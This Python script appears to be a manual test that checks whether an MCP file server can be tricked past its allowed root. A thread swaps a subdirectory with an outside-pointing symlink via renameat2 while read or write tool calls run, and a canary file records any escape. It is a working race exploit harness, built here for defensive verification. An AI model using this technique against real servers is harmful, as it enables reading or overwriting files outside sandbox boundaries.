"""A race by hand, without rootguard, to confirm `rootguard mcp --race`:
swap proj/sub <-> proj/.swap (-> outside) with renameat2(RENAME_EXCHANGE) in
a thread while calling one tool N times over stdio; everything in a temp dir.

Usage: python3 scripts/race_by_hand.py SERVER.js read_text_file|write_file N"""
import ctypes, json, os, shutil, subprocess, sys, tempfile, threading
entry, tool, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
base = os.path.realpath(tempfile.mkdtemp(prefix="by-hand-"))
try:
    os.makedirs(f"{base}/proj/sub"); os.makedirs(f"{base}/outside")
    open(f"{base}/proj/sub/target.txt", "w").write("innocent\n")
    open(f"{base}/outside/target.txt", "w").write("CANARY-BYHAND\n")
    os.symlink(f"{base}/outside", f"{base}/proj/.swap")
    srv = subprocess.Popen(["node", entry, f"{base}/proj"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, cwd=base)
    def rpc(i, method, params):
        srv.stdin.write(json.dumps({"jsonrpc": "2.0", "id": i, "method": method, "params": params}) + "\n"); srv.stdin.flush()
        while True:
            m = json.loads(srv.stdout.readline())
            if m.get("id") == i and "method" not in m: return m
    rpc(0, "initialize", {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "by-hand", "version": "0"}})
    srv.stdin.write(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}) + "\n"); srv.stdin.flush()
    stop = False; swaps = [0]
    dirfd = os.open(f"{base}/proj", os.O_RDONLY | os.O_DIRECTORY)
    def swapper():
        while not stop:
            if libc.renameat2(dirfd, b"sub", dirfd, b".swap", 2) == 0: swaps[0] += 1
    t = threading.Thread(target=swapper, daemon=True); t.start()
    hits = 0
    for i in range(1, n + 1):
        args = {"path": f"{base}/proj/sub/target.txt"}
        if tool == "write_file": args["content"] = "BYHAND-WROTE\n"
        r = rpc(i, "tools/call", {"name": tool, "arguments": args})
        if tool == "write_file":
            if open(f"{base}/outside/target.txt").read() != "CANARY-BYHAND\n" or len(os.listdir(f"{base}/outside")) != 1:
                hits += 1
                if hits == 1: print("first escape:", sorted(os.listdir(f"{base}/outside")), repr(open(f"{base}/outside/target.txt").read()))
                for f in os.listdir(f"{base}/outside"):
                    if f != "target.txt": os.remove(f"{base}/outside/{f}")
                open(f"{base}/outside/target.txt", "w").write("CANARY-BYHAND\n")
        elif "CANARY-BYHAND" in json.dumps(r):
            hits += 1
            if hits == 1: print("first escape:", json.dumps(r)[:200])
    stop = True; t.join()
    if swaps[0] % 2: libc.renameat2(dirfd, b"sub", dirfd, b".swap", 2)
    srv.kill()
    srv.wait()
finally:
    shutil.rmtree(base)
print(f"{tool}: {hits}/{n} escaped, {swaps[0]} swaps")
